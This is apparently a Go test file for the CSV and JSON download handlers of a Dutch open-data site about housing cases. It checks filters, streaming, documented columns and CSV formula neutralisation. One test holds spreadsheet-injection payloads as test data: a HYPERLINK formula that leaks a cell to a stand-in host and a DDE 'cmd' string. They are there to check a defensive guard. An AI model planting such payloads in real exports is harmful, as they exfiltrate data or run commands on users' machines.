package handlers

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"html"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"opnieuwthuis/db"
)

// addCase stores a case through the same db call the editors use.
func addCase(t testing.TB, store *db.DB, in db.CaseInput) db.Case {
	t.Helper()
	if in.Summary == "" {
		in.Summary = "Samenvatting van " + in.Title
	}
	if in.Kind == "" {
		in.Kind = db.KindSolution
	}
	c, err := store.CreateCase(context.Background(), in, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// addCaseInEveryStatus adds one case per status, all about temporary housing in
// Utrecht, and returns their slugs by status.
// later moves the database's clock on by d: what it writes from now on is that
// much later than what it wrote before.
func later(store *db.DB, d time.Duration) {
	store.Now = func() time.Time { return time.Now().Add(d) }
}

func addCaseInEveryStatus(t testing.TB, store *db.DB) map[string]string {
	t.Helper()
	slugs := map[string]string{}
	for _, status := range db.Statuses {
		c := addCase(t, store, db.CaseInput{
			Slug: "wonen-status-" + status, Title: "Flexwonen in status " + status,
			Body: "Tijdelijke woningen in Utrecht.", GemeenteCode: "GM0344",
			Themes: []string{"tijdelijke-woningen", "gezinnen"}, Status: status,
			Partners: []string{"Corporatie A", "Stichting B"}, SourceURL: "https://example.org/bron",
		})
		slugs[status] = c.Slug
	}
	return slugs
}

// publishedSlugs lists every published case in library order, straight from db.
func publishedSlugs(t testing.TB, store *db.DB) []string {
	t.Helper()
	res, err := store.FindCases(context.Background(), db.CaseFilter{PerPage: 100000})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, h := range res.Hits {
		out = append(out, h.Slug)
	}
	return out
}

// readCSV parses a CSV download into its header and rows keyed by column.
func readCSV(t testing.TB, body string, comma rune) ([]string, []map[string]string) {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = comma
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	if len(records) == 0 {
		t.Fatal("CSV has no header row")
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = rec[i]
		}
		rows = append(rows, row)
	}
	return records[0], rows
}

// jsonDownload is the shape of every JSON download.
type jsonDownload struct {
	Meta map[string]any   `json:"meta"`
	Data []map[string]any `json:"data"`
}

func readJSON(t testing.TB, body string) jsonDownload {
	t.Helper()
	var d jsonDownload
	dec := json.NewDecoder(strings.NewReader(body))
	if err := dec.Decode(&d); err != nil {
		t.Fatalf("JSON does not parse: %v\n%.300s", err, body)
	}
	if dec.More() {
		t.Fatal("JSON download holds more than one document")
	}
	return d
}

func csvSlugs(rows []map[string]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r["slug"])
	}
	return out
}

func jsonSlugs(d jsonDownload) []string {
	var out []string
	for _, r := range d.Data {
		out = append(out, r["slug"].(string))
	}
	return out
}

func TestCaseDownloadsHoldExactlyThePublishedCases(t *testing.T) {
	app, store := newTestApp(t)
	slugs := addCaseInEveryStatus(t, store)
	want := publishedSlugs(t, store)
	if len(want) < 25 {
		t.Fatalf("%d published cases, want the seed cases and 1 new one", len(want))
	}

	res := get(t, app, "/open-data/voorbeelden.csv")
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV download: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	if !strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
		t.Error("CSV download is not offered as a file")
	}
	if strings.HasPrefix(res.Body, utf8BOM) {
		t.Error("plain CSV starts with a BOM")
	}
	header, rows := readCSV(t, res.Body, ',')
	if !slices.Equal(header, columnNames(caseColumns)) {
		t.Errorf("CSV header = %v\nwant the documented columns %v", header, columnNames(caseColumns))
	}
	if got := csvSlugs(rows); !slices.Equal(got, want) {
		t.Errorf("CSV holds %v\nwant the published cases %v", got, want)
	}

	res = get(t, app, "/open-data/voorbeelden.json")
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") {
		t.Fatalf("JSON download: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	d := readJSON(t, res.Body)
	if got := jsonSlugs(d); !slices.Equal(got, want) {
		t.Errorf("JSON holds %v\nwant the published cases %v", got, want)
	}
	if d.Meta["licentie"] != "CC BY 4.0" || d.Meta["documentatie"] != "https://opnieuwthuis.example/open-data" {
		t.Errorf("JSON meta = %v", d.Meta)
	}
	for _, r := range d.Data {
		var keys []string
		for k := range r {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		wantKeys := slices.DeleteFunc(columnNames(caseColumns), func(s string) bool { return s == "thema_labels" || s == "betrokken_gemeente_namen" })
		slices.Sort(wantKeys)
		if !slices.Equal(keys, wantKeys) {
			t.Fatalf("JSON keys = %v, want the documented columns %v", keys, wantKeys)
		}
	}

	for status, slug := range slugs {
		if status != db.StatusPublished && (slices.Contains(csvSlugs(rows), slug) || slices.Contains(jsonSlugs(d), slug)) {
			t.Errorf("a %s case is in the download", status)
		}
	}

	// One row in full, in both formats.
	var row map[string]string
	for _, r := range rows {
		if r["slug"] == slugs[db.StatusPublished] {
			row = r
		}
	}
	wantRow := map[string]string{
		"titel": "Flexwonen in status gepubliceerd", "tekst": "Tijdelijke woningen in Utrecht.",
		"url":   "https://opnieuwthuis.example/voorbeelden/wonen-status-gepubliceerd",
		"soort": "woonoplossing", "jaar": "", "gemeente_code": "GM0344", "gemeente": "Utrecht",
		"provincie_code": "PV26", "provincie": "Utrecht",
		"themas": "tijdelijke-woningen | gezinnen", "thema_labels": "Tijdelijke woningen en flexwonen | Gezinnen",
		"partners": "Corporatie A | Stichting B", "bron_url": "https://example.org/bron",
	}
	for k, v := range wantRow {
		if row[k] != v {
			t.Errorf("CSV %s = %q, want %q", k, row[k], v)
		}
	}
	for _, k := range []string{"gepubliceerd", "bijgewerkt"} {
		if _, err := time.Parse(time.RFC3339, row[k]); err != nil {
			t.Errorf("CSV %s = %q: %v", k, row[k], err)
		}
	}
	for _, r := range d.Data {
		if r["slug"] != slugs[db.StatusPublished] {
			continue
		}
		themes, _ := json.Marshal(r["themas"])
		if string(themes) != `[{"label":"Tijdelijke woningen en flexwonen","slug":"tijdelijke-woningen"},{"label":"Gezinnen","slug":"gezinnen"}]` {
			t.Errorf("JSON themas = %s", themes)
		}
		if r["jaar"] != nil || r["gemeente_code"] != "GM0344" || r["url"] != wantRow["url"] {
			t.Errorf("JSON record = %v", r)
		}
	}
}

var caseLink = regexp.MustCompile(`<h3 class="case-card__title"><a href="/voorbeelden/([a-z0-9-]+)">`)

func TestLibraryDownloadsFollowTheLibraryFilter(t *testing.T) {
	app, store := newTestApp(t)
	addCaseInEveryStatus(t, store)
	for _, query := range []string{
		"",
		"q=wonen",
		"thema=gemengd-wonen",
		"provincie=PV26&soort=aanpak",
		"q=startblok&sort=jaar",
		"jaar=2016&jaar=2017&sort=jaar",
		"q=tijdelijke+woningen&provincie=PV26",
		"thema=bestaat-niet", // ignored by the library, so by the download too
		"q=qqqzzzxx",
		"q=statushouers",                  // corrected
		"q=statushouers&letterlijk=1",     // not corrected
		"q=jonge+statushouders+een+kamer", // relaxed
		"q=flexwonen&sort=nieuwste",       // synonyms and compounds
	} {
		t.Run(query, func(t *testing.T) {
			// What the library shows, page after page.
			var want []string
			for p := 1; ; p++ {
				target := "/voorbeelden?" + query + "&pagina=" + strconv.Itoa(p)
				res := get(t, app, target)
				if res.StatusCode != 200 {
					t.Fatalf("%s: %d", target, res.StatusCode)
				}
				for _, m := range caseLink.FindAllStringSubmatch(res.Body, -1) {
					want = append(want, m[1])
				}
				if !strings.Contains(res.Body, `rel="next"`) {
					break
				}
			}

			res := get(t, app, "/voorbeelden.csv?"+query)
			if res.StatusCode != 200 {
				t.Fatalf("CSV: %d", res.StatusCode)
			}
			_, rows := readCSV(t, res.Body, ',')
			if got := csvSlugs(rows); !slices.Equal(got, want) {
				t.Errorf("CSV holds %v\nthe library shows %v", got, want)
			}
			res = get(t, app, "/voorbeelden.json?"+query)
			if got := jsonSlugs(readJSON(t, res.Body)); !slices.Equal(got, want) {
				t.Errorf("JSON holds %v\nthe library shows %v", got, want)
			}
		})
	}
	if len(publishedSlugs(t, store)) == 0 {
		t.Fatal("no cases")
	}
}

func TestLibraryShowsDownloadLinksForItsFilter(t *testing.T) {
	app, _ := newTestApp(t)
	page := get(t, app, "/voorbeelden?provincie=PV26&q=wonen&pagina=1")
	fragment := get(t, app, "/voorbeelden?provincie=PV26&q=wonen&pagina=1", htmx...)
	for name, body := range map[string]string{"page": page.Body, "htmx fragment": fragment.Body} {
		for _, href := range []string{
			"/voorbeelden.csv?provincie=PV26&q=wonen",
			"/voorbeelden.csv?provincie=PV26&q=wonen&excel=1",
			"/voorbeelden.json?provincie=PV26&q=wonen",
			"/voorbeelden.atom?provincie=PV26&q=wonen",
		} {
			if !strings.Contains(body, `href="`+html.EscapeString(href)+`"`) {
				t.Errorf("%s has no link to %s", name, href)
			}
		}
	}
	if !strings.Contains(page.Body, `<link rel="alternate" type="application/atom+xml" title="Nieuwe goede voorbeelden bij deze zoekvraag en filters" href="https://opnieuwthuis.example/voorbeelden.atom?provincie=PV26&amp;q=wonen">`) {
		t.Error("the library does not announce the feed of its filter")
	}
	// Nothing found: nothing to download.
	if res := get(t, app, "/voorbeelden?q=qqqzzzxx"); strings.Contains(res.Body, "/voorbeelden.csv") {
		t.Error("download links shown for an empty result")
	}
}

func TestCSVCellsCannotRunAsFormulas(t *testing.T) {
	app, store := newTestApp(t)
	titles := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")`,
		`+cmd|' /C calc'!A0`,
		`-1+2`,
		`@SUM(A1:A9)`,
	}
	for i, title := range titles {
		addCase(t, store, db.CaseInput{
			Slug: "formule-" + strconv.Itoa(i), Title: title, Summary: "=1+1",
			Partners: []string{"@partner", "-2"}, Status: db.StatusPublished, Themes: []string{"gezinnen"},
		})
	}
	for _, target := range []string{"/open-data/voorbeelden.csv", "/voorbeelden.csv?thema=gezinnen", "/voorbeelden.csv?excel=1"} {
		res := get(t, app, target)
		comma := ','
		body := res.Body
		if strings.Contains(target, "excel=1") {
			if !strings.HasPrefix(body, utf8BOM) {
				t.Errorf("%s: the Excel variant has no BOM", target)
			}
			body, comma = strings.TrimPrefix(body, utf8BOM), ';'
		}
		_, rows := readCSV(t, body, comma)
		found := 0
		for _, r := range rows {
			i := slices.Index(titles, strings.TrimPrefix(r["titel"], "'"))
			if i < 0 {
				continue
			}
			found++
			if r["titel"] != "'"+titles[i] {
				t.Errorf("%s: title cell %q is not neutralised", target, r["titel"])
			}
			if r["samenvatting"] != "'=1+1" || r["partners"] != "'@partner | -2" {
				t.Errorf("%s: summary %q, partners %q", target, r["samenvatting"], r["partners"])
			}
		}
		if found != len(titles) {
			t.Errorf("%s: %d of the %d formula cases found", target, found, len(titles))
		}
	}
	// JSON carries the text as it is: it is data, not a spreadsheet.
	d := readJSON(t, get(t, app, "/voorbeelden.json?thema=gezinnen").Body)
	n := 0
	for _, r := range d.Data {
		if slices.Contains(titles, r["titel"].(string)) {
			n++
		}
	}
	if n != len(titles) {
		t.Errorf("JSON has %d of the titles unchanged", n)
	}
}

func TestCSVCellGuard(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+31 20 1234567": "'+31 20 1234567", "-1+2": "'-1+2", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "-12": "-12", "-1.5": "-1.5", "+3": "+3", "gewoon": "gewoon", "": "", "a=b": "a=b",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDownloadsStreamWithoutETag(t *testing.T) {
	app, _ := newTestApp(t)
	for _, target := range []string{"/open-data/voorbeelden.csv", "/open-data/voorbeelden.json", "/voorbeelden.csv?q=wonen", "/voorbeelden.json", "/open-data/gemeenten.csv"} {
		res := get(t, app, target)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d", target, res.StatusCode)
		}
		// A streamed body goes out in chunks as it is written; one read into memory
		// first (for example to compute an ETag) would get a Content-Length instead.
		if !slices.Contains(res.TransferEncoding, "chunked") || res.ContentLength != -1 {
			t.Errorf("%s is not streamed: transfer encoding %v, length %d", target, res.TransferEncoding, res.ContentLength)
		}
		if res.Header.Get("ETag") != "" {
			t.Errorf("%s has an ETag", target)
		}
	}
	// Pages keep theirs.
	if res := get(t, app, "/open-data"); res.Header.Get("ETag") == "" {
		t.Error("/open-data lost its ETag")
	}
}

func TestGemeentenDownload(t *testing.T) {
	app, _ := newTestApp(t)
	header, rows := readCSV(t, get(t, app, "/open-data/gemeenten.csv").Body, ',')
	if !slices.Equal(header, columnNames(gemeenteColumns)) {
		t.Errorf("header = %v", header)
	}
	d := readJSON(t, get(t, app, "/open-data/gemeenten.json").Body)
	if len(rows) != 342 || len(d.Data) != 342 {
		t.Fatalf("%d CSV rows and %d JSON records, want 342 gemeenten", len(rows), len(d.Data))
	}
	sum := 0
	for _, r := range rows {
		n, err := strconv.Atoi(r["inwoners"])
		if err != nil {
			t.Fatal(err)
		}
		sum += n
		if r["inwoners_peildatum"] != "2025-01-01" {
			t.Fatalf("peildatum %q", r["inwoners_peildatum"])
		}
		if r["gemeente_code"] == "GM0363" && (r["gemeente"] != "Amsterdam" || r["provincie_code"] != "PV27" || r["provincie"] != "Noord-Holland") {
			t.Errorf("Amsterdam row = %v", r)
		}
	}
	if sum != 18044027 {
		t.Errorf("population sums to %d, want 18044027 (CBS, 1 January 2025)", sum)
	}
	if d.Data[0]["gemeente_code"] != rows[0]["gemeente_code"] || d.Data[0]["inwoners"].(float64) == 0 {
		t.Errorf("JSON and CSV differ: %v / %v", d.Data[0], rows[0])
	}
}

func TestOpenDataPageDocumentsEveryDownload(t *testing.T) {
	app, store := newTestApp(t)
	res := getPage(t, app, "/open-data")
	body := res.Body
	for _, href := range []string{
		"/open-data/voorbeelden.csv", "/open-data/voorbeelden.json", "/open-data/voorbeelden.csv?excel=1",
		"/open-data/gemeenten.csv", "/open-data/gemeenten.json",
		"/open-data/cijfers.csv", "/open-data/cijfers.json",
		"/open-data/taakstelling-landelijk.csv", "/open-data/taakstelling-landelijk.json",
		"https://opnieuwthuis.example/voorbeelden.atom",
		"https://opnieuwthuis.example/voorbeelden.atom?thema=gezinnen",
		"https://opnieuwthuis.example/voorbeelden.atom?provincie=PV27",
	} {
		if !strings.Contains(body, `href="`+html.EscapeString(href)+`"`) {
			t.Errorf("/open-data does not link %s", href)
		}
	}
	// The figure columns as the map serves them, in order.
	figures := []string{"cijfers", "periode", "gemeente_code", "gemeente", "provincie_code", "provincie", "inwoners",
		"taakstelling", "taakstelling_bron", "overloop_saldo", "gecorrigeerde_taakstelling", "peildatum",
		"gerealiseerd", "verwacht_pro_rata", "verschil", "percentage_pro_rata", "status",
		"realisatie_bron", "bekende_afwijking"}
	if !slices.Equal(columnNames(figureColumns), figures) {
		t.Errorf("figure columns = %v\nwant %v", columnNames(figureColumns), figures)
	}
	if got := columnNames(nationalColumns); !slices.Equal(got, []string{"periode", "totaal", "status", "officieel", "bron_url", "bron_soort", "bron_datum", "opmerking"}) {
		t.Errorf("national columns = %v", got)
	}
	// The national figures are not all called official, and their sources are named
	// as they are.
	for _, want := range []string{"alleen vastgestelde en bijgestelde cijfers heten <code>officieel</code>",
		"nieuwsberichten en vakmedia, waar dat de bron is", "Rijksoverheid ("} {
		if !strings.Contains(body, want) {
			t.Errorf("/open-data lacks %q", want)
		}
	}
	if strings.Contains(body, "De landelijke totalen zijn officieel") || strings.Contains(body, "landelijke totalen: Rijksoverheid (bron") {
		t.Error("/open-data calls every national figure official, or a Rijksoverheid figure")
	}
	// Every column of every download has a row in its table, in order.
	for id, cols := range map[string][]column{"voorbeelden": caseColumns, "gemeenten": gemeenteColumns, "cijfers": figureColumns, "taakstelling-landelijk": nationalColumns} {
		start := strings.Index(body, `<section class="dataset" id="`+id+`"`)
		if start < 0 {
			t.Fatalf("no section for %s", id)
		}
		section := body[start:]
		section = section[:strings.Index(section, "</section>")]
		rows := regexp.MustCompile(`<tr><th scope="row"><code>([a-z_]+)</code></th>`).FindAllStringSubmatch(section, -1)
		var names []string
		for _, r := range rows {
			names = append(names, r[1])
		}
		if !slices.Equal(names, columnNames(cols)) {
			t.Errorf("%s documents %v\nwant %v", id, names, columnNames(cols))
		}
		if !strings.Contains(section, "CC BY 4.0") || !strings.Contains(section, "Laatst gewijzigd") {
			t.Errorf("%s has no licence or last change", id)
		}
	}
	for _, text := range []string{"fictieve cijfers", "berekend naar inwonertal", "RFC 4180", "CSV voor Excel"} {
		if !strings.Contains(body, text) {
			t.Errorf("/open-data does not explain %q", text)
		}
	}
	// The cases' last change follows the data.
	changed, err := store.CasesChangedAt(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if want := formatDate(changed.In(amsterdam)); !strings.Contains(body, want+", bij de laatste wijziging") {
		t.Errorf("/open-data does not give the cases' last change %q", want)
	}
}

func TestOpenDataSaysWhenTheFiguresChanged(t *testing.T) {
	app, store := newTestApp(t)
	before := get(t, app, "/open-data").Body
	if !strings.Contains(before, "Nog nooit officiële cijfers geïmporteerd") || !strings.Contains(before, "Laatste peildatum in de cijfers: 1 januari 2026.") {
		t.Fatal("the figures' last change is not told from the data")
	}
	ctx := context.Background()
	editor, err := store.CreateUser(ctx, db.UserInput{Email: "ria@example.org", Role: db.RoleEditor, Password: "een lang wachtwoord"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	imp, lineErrs, err := store.ParseFigureImport(ctx, "2025-H2", "f.csv",
		[]byte("gemeente_code,periode,taakstelling,peildatum,gerealiseerd,officieel\nGM0363,2025-H2,950,,,ja\n"))
	if err != nil || lineErrs != nil {
		t.Fatalf("parse: %v %v", err, lineErrs)
	}
	if _, err := store.ImportFigures(ctx, imp, editor); err != nil {
		t.Fatal(err)
	}
	after := get(t, app, "/open-data").Body
	if !strings.Contains(after, "Laatste import van officiële cijfers: ") {
		t.Error("an import is not shown as the figures' last change")
	}
}
